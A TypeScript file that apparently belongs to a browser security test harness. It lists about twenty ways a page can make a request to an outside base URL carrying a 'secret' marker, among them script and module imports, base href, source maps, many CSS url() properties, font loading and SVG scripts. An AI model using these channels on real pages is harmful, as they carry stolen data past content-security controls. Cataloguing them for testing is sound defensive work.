import type { Channel } from "./channel.ts";

/** Scripts, modules, style sheets, fonts. */
export const CODE_AND_STYLE: readonly Channel[] = [
  {
    id: "script_src",
    family: "code",
    entry: 7,
    attack: (t) => t.element("script", { src: `${t.base}/js?secret=1` }),
  },
  {
    id: "module_import",
    family: "code",
    entry: 7,
    attack: (t) => import(`${t.base}/js?secret=1`),
  },
  {
    id: "base_href",
    family: "code",
    entry: 102,
    attack: (t) => {
      t.element("base", { href: `${t.base}/` });
      new Image().src = "img?secret=1";
    },
  },
  {
    id: "js_sourcemap",
    family: "code",
    entry: 7,
    attack: (t) => new Function(`0\n//# sourceMappingURL=${t.base}/map?secret=1`)(),
  },
  {
    id: "css_link",
    family: "style",
    entry: 6,
    attack: (t) => t.element("link", { rel: "stylesheet", href: `${t.base}/css?secret=1` }),
  },
  {
    id: "css_url",
    family: "style",
    entry: 5,
    attack: (t) => {
      document.body.style.backgroundImage = `url(${t.base}/img?secret=1)`;
    },
  },
  {
    id: "css_import",
    family: "style",
    entry: 6,
    attack: (t) => t.markup(`<style>@import "${t.base}/css?secret=1";</style>`),
  },
  {
    id: "css_font",
    family: "style",
    entry: 6,
    attack: (t) =>
      t.markup(
        `<style>@font-face{font-family:leak;src:url(${t.base}/font?secret=1)}</style><p style="font-family:leak">text</p>`,
      ),
  },
  {
    id: "fontface_api",
    family: "style",
    entry: 6,
    attack: (t) => new FontFace("leak", `url(${t.base}/font?secret=1)`).load(),
  },
  {
    id: "css_cursor",
    family: "style",
    entry: 5,
    attack: (t) => {
      document.body.style.cursor = `url(${t.base}/img?secret=1), auto`;
    },
  },
  {
    id: "css_image_set",
    family: "style",
    entry: 5,
    attack: (t) => {
      document.body.style.backgroundImage = `image-set("${t.base}/img?secret=1" 1x)`;
    },
  },
  {
    id: "css_mask",
    family: "style",
    entry: 5,
    attack: (t) => {
      document.body.style.maskImage = `url(${t.base}/img?secret=1)`;
    },
  },
  {
    id: "css_content",
    family: "style",
    entry: 5,
    attack: (t) => t.markup(`<style>body::before{content:url(${t.base}/img?secret=1)}</style>`),
  },
  {
    id: "css_list_style",
    family: "style",
    entry: 5,
    attack: (t) => t.markup(`<ul style="list-style-image:url(${t.base}/img?secret=1)"><li>x</ul>`),
  },
  {
    id: "css_border_image",
    family: "style",
    entry: 5,
    attack: (t) =>
      t.markup(`<p style="border:9px solid;border-image:url(${t.base}/img?secret=1) 9">x</p>`),
  },
  {
    id: "css_shape_outside",
    family: "style",
    entry: 5,
    attack: (t) =>
      t.markup(
        `<p style="float:left;width:9px;height:9px;shape-outside:url(${t.base}/img?secret=1)">x</p>`,
      ),
  },
  {
    id: "css_clip_path",
    family: "style",
    entry: 5,
    attack: (t) => t.markup(`<p style="clip-path:url(${t.base}/svg?secret=1#f)">x</p>`),
  },
  {
    id: "css_data_import",
    family: "style",
    entry: 6,
    attack: (t) =>
      t.element("link", {
        rel: "stylesheet",
        href: `data:text/css,@import "${t.base}/css?secret=1";`,
      }),
  },
  {
    id: "css_module",
    family: "style",
    entry: 6,
    attack: (t) => import(`${t.base}/css?secret=1`, { with: { type: "css" } }),
  },
  {
    id: "json_module",
    family: "code",
    entry: 7,
    attack: (t) => import(`${t.base}/json?secret=1`, { with: { type: "json" } }),
  },
  {
    id: "blob_static_import",
    family: "code",
    entry: 7,
    attack: (t) => import(t.blob(`import "${t.base}/js?secret=1"`)),
  },
  {
    id: "svg_script",
    family: "code",
    entry: 7,
    attack: (t) => {
      const space = "http://www.w3.org/2000/svg";
      const script = document.createElementNS(space, "script");
      script.setAttribute("href", `${t.base}/js?secret=1`);
      const picture = document.createElementNS(space, "svg");
      picture.append(script);
      document.body.append(picture);
    },
  },
];
